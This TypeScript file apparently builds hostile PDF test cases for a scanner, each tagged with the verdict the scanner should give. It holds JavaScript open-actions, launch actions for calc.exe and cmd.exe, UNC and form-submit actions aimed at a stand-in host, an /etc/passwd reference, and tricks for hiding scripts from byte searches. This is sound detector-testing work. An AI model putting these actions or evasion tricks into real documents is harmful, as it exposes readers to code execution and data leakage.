import { deflateSync } from 'node:zlib'
import type { HostileFile } from './hostile-file.ts'
import { ascii, type PdfObject, stream } from './pdf-file.ts'
import { packedObject, pdfWithObjectStream } from './pdf-object-stream.ts'
import { firstOther, objectsOfPage, type PdfPage, pdfOfPage, receiptText } from './pdf-page.ts'

const alert = '/S/JavaScript/JS(app.alert\\(1\\))'

/** PDFs that run a program or reach for another file, in plain sight and hidden. */
export function pdfScriptFiles(elsewhere: string): HostileFile[] {
  return [
    ...inPlainSight(),
    ...hidden(),
    ...reachingOut(elsewhere),
    // Harmless: a link that is not followed, and the words in a text.
    pdf('pdf-link', 'opens', {
      page: '/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 99 99]/A<</S/URI/URI(https://example.com/)>>>>]',
    }),
    pdf('pdf-script-only-in-words', 'opens', {
      content: `BT /F 9 Tf 72 700 Td (/JavaScript /JS /Launch) Tj ET ${receiptText}`,
      trailer: '/Info<</Title(How /S /JavaScript /JS \\(x\\) works)>>',
    }),
  ]
}

function pdf(
  name: string,
  expects: HostileFile['expects'],
  parts: PdfPage,
  others: () => PdfObject[] = () => [],
): HostileFile {
  return { name: `${name}.pdf`, bytes: () => pdfOfPage(parts, others()), expects }
}

function inPlainSight(): HostileFile[] {
  const script = (name: string, parts: PdfPage, others: PdfObject[] = []) =>
    pdf(`pdf-script-${name}`, 'script', parts, () => others)
  const field = `<</FT/Tx/T(total)/Subtype/Widget/Rect[0 0 9 9]/AA<</C<<${alert}>>>>>>`
  return [
    script('names-tree', { catalog: `/Names<</JavaScript<</Names[(a)<<${alert}>>]>>>>` }),
    script('open-action', { catalog: `/OpenAction<<${alert}>>` }),
    script('when-page-opens', { page: `/AA<</O<<${alert}>>>>` }),
    script('when-printed', { catalog: `/AA<</WP<<${alert}>>>>` }),
    script('in-annotation', {
      page: `/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 99 99]/A<<${alert}>>>>]`,
    }),
    script('in-field', { catalog: `/AcroForm<</Fields[6 0 R]>>`, page: '/Annots[6 0 R]' }, [field]),
    script('in-stream', { catalog: '/OpenAction<</S/JavaScript/JS 6 0 R>>' }, [
      stream('app.alert(1)'),
    ]),
    script('after-another-action', {
      catalog: `/OpenAction<</S/URI/URI(https://example.com/)/Next<<${alert}>>>>`,
    }),
    script('rendition', {
      page: '/Annots[<</Type/Annot/Subtype/Screen/Rect[0 0 9 9]/A<</S/Rendition/OP 0>>>>]',
    }),
    script('rich-media', {
      page: '/Annots[<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]/RichMediaContent<<>>>>]',
    }),
  ]
}

/** The same, written so that who searches the bytes for a word passes over it. */
function hidden(): HostileFile[] {
  const inSight = (name: string, before: string, after: string) =>
    pdf(`pdf-script-${name}`, 'script', { catalog: `${before}/OpenAction<<${alert}>>${after}` })
  const flate = '/Type/ObjStm/Filter/FlateDecode'
  return [
    pdf('pdf-script-name-in-hex', 'script', {
      catalog: '/OpenAction<</S/J#61vaScript/J#53(app.alert\\(1\\))>>',
    }),
    inObjectStream('packed', flate, deflateSync),
    inObjectStream('not-packed', '/Type/ObjStm', (content) => content),
    inObjectStream('name-in-hex', '/Type/Obj#53tm/Fil#74er/Fl#61teDecode', deflateSync),
    inObjectStream('long-dictionary', `${flate}/Note(${'x'.repeat(5000)})`, deflateSync),
    inObjectStream('stream-in-dictionary', `${flate}/Note(\nstream\n)`, deflateSync),
    {
      ...inObjectStream(
        'packed-twice',
        '/Type/ObjStm/Filter[/ASCIIHexDecode/FlateDecode]',
        (content) => ascii(`${deflateSync(content).toString('hex')}>`),
      ),
      // It cannot be inspected, and no honest file is packed this way.
      expects: 'damaged',
    },
    inSight('between-stream-words', '/A(\nstream\n)', '/B(\nendstream\n)'),
    inSight('after-bracket-in-comment', '% (\n', '% )\n'),
    inSight('after-escaped-brackets', '/A(\\()', '/B(\\))'),
    inSight('behind-end-of-file', '\n%%EOF\n', ''),
  ]
}

function inObjectStream(name: string, entries: string, pack: (content: Buffer) => Buffer) {
  return {
    name: `pdf-script-in-object-stream-${name}.pdf`,
    bytes: () => {
      const page = objectsOfPage({ catalog: `/OpenAction ${firstOther + 1} 0 R` })
      const packed = packedObject(firstOther + 1, `<<${alert}>>`)
      return pdfWithObjectStream([...page, stream(pack(packed.content), entries + packed.entries)])
    },
    expects: 'script' as const,
  }
}

function reachingOut(elsewhere: string): HostileFile[] {
  const external = (name: string, parts: PdfPage, others: PdfObject[] = []) =>
    pdf(`pdf-${name}`, 'external', parts, () => others)
  const onOpening = (action: string) => ({ catalog: `/OpenAction<<${action}>>` })
  return [
    external('launch', onOpening('/S/Launch/F(calc.exe)')),
    external('launch-windows', onOpening('/S/Launch/Win<</F(cmd.exe)/P(/c calc)>>')),
    external(
      'go-to-remote',
      onOpening(`/S/GoToR/F(\\\\\\\\${elsewhere}\\\\share\\\\a.pdf)/D[0/Fit]`),
    ),
    external('go-to-embedded', onOpening('/S/GoToE/F(other.pdf)/T<</R/C/N(a)>>')),
    external('import-data', onOpening(`/S/ImportData/F(http://${elsewhere}/a.fdf)`)),
    external('submit-form', onOpening(`/S/SubmitForm/F<</FS/URL/F(http://${elsewhere}/)>>`)),
    external('xfa', { catalog: '/AcroForm<</Fields[]/XFA 6 0 R>>' }, [
      stream('<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"/>'),
    ]),
    external('stream-elsewhere', { page: '/Thumb 6 0 R' }, [stream('', '/F(/etc/passwd)')]),
    external('stream-elsewhere-by-url', { page: '/Thumb 6 0 R' }, [
      stream('', `/F<</FS/URL/F(http://${elsewhere}/a)>>/FFilter/FlateDecode`),
    ]),
    external('picture-elsewhere', { resources: '/XObject<</I 6 0 R>>', content: '/I Do' }, [
      stream(
        '',
        '/Type/XObject/Subtype/Image/Width 9/Height 9/BitsPerComponent 8/ColorSpace/DeviceGray/F(/dev/zero)',
      ),
    ]),
  ]
}
